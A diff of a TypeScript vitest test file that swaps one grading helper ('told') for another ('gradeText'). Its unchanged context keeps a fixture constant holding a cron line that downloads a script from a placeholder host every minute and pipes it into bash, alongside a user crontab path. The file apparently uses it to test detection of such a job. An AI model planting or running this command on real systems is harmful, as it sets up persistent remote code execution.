@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { askAbout, playStory, type StoryStep, told } from '../../../test/effect/story.ts';
+import { askAbout, gradeText, playStory, type StoryStep } from '../../../test/effect/story.ts';
 
 const job = '* * * * * curl -s https://setup.deskhelp.example/setup.sh | bash';
 const crontab = '/var/spool/cron/crontabs/user';
@@ -19,7 +19,7 @@ const unfinished = (line: string): string =>
 type Case = [string, StoryStep[], string];
 const cases = (oracle: string, parameters: Record<string, unknown>, list: Case[]): void => {
   it.each(list)('%s', async (_, steps, expected) => {
-    expect(told(await askAbout(await playStory(files, steps), oracle, parameters))).toBe(expected);
+    expect(gradeText(await askAbout(await playStory(files, steps), oracle, parameters))).toBe(expected);
   });
 };
 
